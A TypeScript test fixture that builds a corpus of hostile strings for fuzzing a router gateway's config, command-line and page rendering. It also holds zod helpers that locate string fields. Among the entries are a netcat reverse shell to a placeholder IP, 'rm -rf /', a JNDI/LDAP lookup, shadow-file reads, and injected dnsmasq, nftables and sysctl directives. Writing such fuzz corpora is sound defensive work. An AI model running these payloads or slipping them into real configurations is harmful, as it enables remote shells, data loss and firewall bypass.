import type { z } from 'zod';

/**
 * Strings that try to break out of a field into a configuration file, a command line, a log
 * line or a page: shell metacharacters, option-looking values, line breaks and NULs followed
 * by a directive of each file syntax the gateway writes (dnsmasq, nftables, ip batch, sysctl,
 * UCI), quote and brace breaking, path traversal, very long values, broken UTF-16, bidi and
 * invisible characters, fullwidth look-alikes. Suites submit every one of them to every
 * string field of every entity.
 */

/** Directives that would change a rendered file if a value could start a new line with them. */
const DIRECTIVES = [
  'dhcp-script=/tmp/x',
  'conf-file=/tmp/evil.conf',
  'server=/#/203.0.113.66',
  'address=/#/203.0.113.66',
  'dhcp-option=option:router,203.0.113.66',
  'flush ruleset',
  'add rule inet portico input accept',
  'table inet evil { chain c { type filter hook input priority -500; policy accept; } }',
  'route add default via 203.0.113.66',
  'link set dev lo down',
  'rule add from all table 666 priority 1',
  'net.ipv4.ip_forward = 0',
  'kernel.core_pattern = |/tmp/x',
  "option proto 'dhcp'",
  'config interface evil',
  'reboot',
];

/** Ways to end the current line or token before a directive. */
const BREAKS = ['\n', '\r\n', '\r', '\u0000', '\u2028', '\u2029', '\u0085', '\u000b', '\u000c', '\t', ';', ' # '];

const SHELL = [
  ';reboot',
  '; rm -rf / ;',
  '| nc -e /bin/sh 203.0.113.66 4444',
  '&& id',
  '|| id',
  '$(id)',
  '$(reboot)',
  '`id`',
  '`reboot`',
  '$((1+1))',
  '${IFS}id',
  '$HOME',
  '> /etc/passwd',
  '>> /etc/shadow',
  '< /etc/shadow',
  '2>&1',
  '*',
  '?',
  '~root',
  '!!',
  '\\',
  '\\n',
  'a\\',
  "'; id; '",
  '"; id; "',
  'a&b',
  'a|b',
  '(a)',
  'eth0;reboot',
  'lan$(id)',
  '192.168.1.1;id',
  '192.168.1.1`id`',
  '00:11:22:33:44:55;id',
  'example.com;id',
  'http://example.com/$(id)',
];

const OPTIONS = [
  '-',
  '--',
  '-rf',
  '--help',
  '-o ProxyCommand=id',
  '--conf-file=/tmp/x',
  '--dhcp-script=/tmp/x',
  '-f /tmp/x',
  '-eth0',
  '-lan',
  '-1',
  '--1',
];

const QUOTES_AND_BRACES = [
  'a";flush ruleset;"',
  "a';flush ruleset;'",
  '" accept',
  '"',
  "'",
  '`',
  '""',
  "''",
  '"}',
  '} ; chain x {',
  '{',
  '}',
  '{ }',
  '[',
  ']',
  ';',
  'a;b',
  ';;',
  '# comment',
  '#',
  'a#b',
  'a # b',
  '@include',
  'include "/etc/passwd"',
  'define x = 1',
  '$var',
  'a,b',
  'a,b,c,d,e',
  ',',
  '=',
  'a=b',
  'a = b',
  'key=value\\',
  '<',
  '>',
  '<>',
];

const PATHS = ['../', '../../etc/passwd', '..\\..\\windows\\system32', '/etc/shadow', '%2e%2e%2f', '....//', './', '/', '//', 'file:///etc/passwd', '/dev/null', '/proc/self/environ'];

const INJECTION_FORMATS = [
  '%s%s%s%n',
  '%x%x',
  '{{7*7}}',
  '${jndi:ldap://203.0.113.66/a}',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  "' OR 1=1 --",
  '" OR ""="',
  '; DROP TABLE config_rows; --',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '0',
  '-1',
  'true',
  'false',
  '[]',
  '{}',
];

const UNICODE = [
  '\ud800',
  '\udfff',
  'a\ud800b',
  '\udc00\ud800',
  'x\udbff',
  '\u202e',
  'abc\u202edcba',
  '\u2066lan\u2069',
  '\u202alan',
  '\u200f',
  '\u200e',
  '\u200b',
  'lan\u200b',
  '\u200d',
  '\ufeff',
  '\ufefflan',
  '\u00a0',
  'lan\u00a0',
  '\u3000',
  '；',
  '｜',
  '＄（ｉｄ）',
  '＂',
  '＃',
  '／',
  '｛｝',
  '１９２．１６８．１．１',
  'ｅｔｈ０',
  'ｌａｎ',
  'ı',
  'İ',
  'ﬃ',
  'e\u0301',
  '🙂',
  '😀'.repeat(40),
  '中文名称',
  'ＡＢＣ',
  '\u0430dmin',
  '\ufffd',
  '\u0085',
  '\u009b31m',
  '\u001b[31m',
  '\u0007',
  '\u007f',
];

const NEAR_VALID = [
  '',
  ' ',
  '\t',
  '  x  ',
  ' 192.168.1.1',
  '192.168.1.1 ',
  '192.168.1.1\n',
  '192.168.001.001',
  '0x7f.0.0.1',
  '127.1',
  '256.1.1.1',
  '192.168.1.1/33',
  '192.168.1.1/24/24',
  '10.0.0.0/8 ',
  '10.0.0.0/8  10.1.0.0/16',
  '10.0.0.0/8\n10.1.0.0/16',
  'fe80::1%eth0',
  '::ffff:192.168.1.1',
  'eth0 ',
  'eth0.5',
  'br-lan',
  'ETH0',
  'lan\u0000',
  'wan1;',
  'a'.repeat(11),
  '00:11:22:33:44:55 ',
  '00:11:22:33:44:55\n',
  '00-11-22-33-44-55',
  'ff:ff:ff:ff:ff:ff',
  '00:00:00:00:00:00',
  'http://example.com/\nx',
  'http://example.com/ x',
  'http://user:pass@example.com/',
  'javascript:alert(1)',
  'ftp://example.com/',
  'example.com.',
  '-example.com',
  'example..com',
  'localhost',
  'printer',
  'Abcdefg1',
];

const LONG = [
  'a'.repeat(256),
  'a'.repeat(4097),
  'a'.repeat(65_536),
  'é'.repeat(65_536),
  '1.'.repeat(32_768),
  `${'a'.repeat(65_535)}\n`,
  `${'x'.repeat(1024)};flush ruleset`,
  '\n'.repeat(1024),
  `lan${' '.repeat(4096)}`,
];

function build(): readonly string[] {
  const out = new Set<string>();
  for (const directive of DIRECTIVES) {
    for (const brk of BREAKS) {
      out.add(`x${brk}${directive}`);
      out.add(`${brk}${directive}`);
    }
    out.add(directive);
    out.add(`192.168.1.1\n${directive}`);
    out.add(`lan\n${directive}`);
  }
  for (const group of [SHELL, OPTIONS, QUOTES_AND_BRACES, PATHS, INJECTION_FORMATS, UNICODE, NEAR_VALID, LONG]) {
    for (const value of group) out.add(value);
  }
  return [...out];
}

/** The corpus, deduplicated; several hundred entries. */
export const HOSTILE_STRINGS: readonly string[] = build();

/** Where a string can be placed in a record: the field itself or an element of a list field. */
export interface StringSlot {
  field: string;
  inArray: boolean;
}

type AnyDef = { type: string; innerType?: z.ZodType; in?: z.ZodType; element?: z.ZodType; options?: z.ZodType[] };

function defOf(schema: z.ZodType): AnyDef {
  return (schema as unknown as { def: AnyDef }).def;
}

function unwrap(schema: z.ZodType): z.ZodType {
  let current = schema;
  for (let depth = 0; depth < 16; depth++) {
    const def = defOf(current);
    const next =
      def.type === 'optional' || def.type === 'nullable' || def.type === 'default' || def.type === 'prefault' || def.type === 'readonly'
        ? def.innerType
        : def.type === 'pipe'
          ? def.in
          : undefined;
    if (!next) return current;
    current = next;
  }
  return current;
}

function takesString(schema: z.ZodType): boolean {
  const inner = unwrap(schema);
  const def = defOf(inner);
  if (def.type === 'string' || def.type === 'enum') return true;
  if (def.type === 'literal') return [...(inner as z.ZodLiteral).values].some((v) => typeof v === 'string');
  if (def.type === 'union') return (def.options ?? []).some(takesString);
  return false;
}

/**
 * Every place of an object schema that takes a string: string, enum and string-literal fields
 * and lists of them. Fields of nested objects are not walked (no entity nests free text).
 */
export function stringSlots(schema: z.ZodObject, skip: readonly string[] = ['id']): StringSlot[] {
  const out: StringSlot[] = [];
  for (const [field, type] of Object.entries(schema.shape as Record<string, z.ZodType>)) {
    if (skip.includes(field)) continue;
    if (takesString(type)) out.push({ field, inArray: false });
    const inner = unwrap(type);
    if (defOf(inner).type === 'array' && takesString(defOf(inner).element!)) out.push({ field, inArray: true });
  }
  return out;
}
